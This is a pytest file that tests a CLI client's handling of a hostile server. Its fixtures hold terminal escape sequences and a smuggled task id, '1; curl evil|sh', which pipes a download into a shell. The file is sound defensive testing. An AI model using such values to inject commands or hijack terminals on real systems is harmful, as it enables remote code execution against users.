"""Text from a hostile server never drives the terminal: escape sequences in error messages,
failure reports and node ids are shown as visible escapes, and a task id that is not a number
is refused before any hint prints it inside a command line."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from tests.cli.cli_harness import ISOLATED, Invoker
from tests.reliability.hostile_server import HostileServer, task_reply

KEY = "0123456789abcdef0123456789abcdef"
CLEAR_AND_TITLE = "\x1b[2J\x1b]0;pwned\x07\r"
FAILED = task_reply(
    status="FAILED",
    taskId="1900000000000000001",
    errorCode="805",
    errorMessage=f"boom{CLEAR_AND_TITLE}hidden\u202eevil",
    failedReason={"node_id": f"9{CLEAR_AND_TITLE}", "exception_message": "bad\x1b[8m secret"},
)


@pytest.fixture
def server() -> Iterator[HostileServer]:
    with HostileServer() as hostile:
        yield hostile


def cli(server: HostileServer, *args: str) -> Invoker:
    env: dict[str, str | None] = dict.fromkeys(ISOLATED)
    env.update(RUNNINGHUB_BASE_URL=server.base_url, RUNNINGHUB_API_KEY=KEY)
    return Invoker(env=env, secrets=(KEY,))


def assert_no_controls(text: str) -> None:
    bad = [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    assert not bad and "\u202e" not in text, repr(text)


@pytest.mark.parametrize("json_mode", [False, True])
def test_escape_sequences_in_a_failure_never_reach_the_terminal(
    server: HostileServer, json_mode: bool
) -> None:
    server.route("/openapi/v2/query", FAILED)
    args = ["--json"] if json_mode else []
    result = cli(server)(*args, "wait", "1900000000000000001")
    assert result.exit_code == 1, result.output
    assert_no_controls(result.stdout)
    assert_no_controls(result.stderr)
    shown = result.stdout + result.stderr
    assert "9\\u001b[2J\\u001b]0;pwned\\u0007" in shown, shown  # visible, not obeyed
    assert "Traceback" not in shown


@pytest.mark.parametrize("task_id", ["1; curl evil|sh", "7" * 33, "12\x1b[2J"])
def test_a_task_id_that_is_not_a_number_is_refused(server: HostileServer, task_id: str) -> None:
    server.route("/openapi/v2/query", task_reply(status="RUNNING", taskId=task_id))
    result = cli(server)("wait", "1900000000000000001", "--timeout", "60")
    assert result.exit_code == 4, result.output
    assert "invalid task id" in result.stderr
    assert "curl evil|sh" not in result.stderr.replace("'1; curl evil|sh'", "")
    assert "runninghub wait 1;" not in result.stderr
    assert_no_controls(result.stderr)


def test_a_lone_surrogate_from_the_server_prints_as_valid_json(server: HostileServer) -> None:
    server.route(
        "/openapi/v2/query",
        task_reply(status="RUNNING", taskId="1900000000000000001", errorMessage="half \ud800"),
    )
    result = cli(server)("--json", "status", "1900000000000000001")
    assert result.exit_code == 0, result.output
    assert "\\ud800" in result.stdout
    document = json.loads(result.stdout)
    assert document["task_id"] == "1900000000000000001"
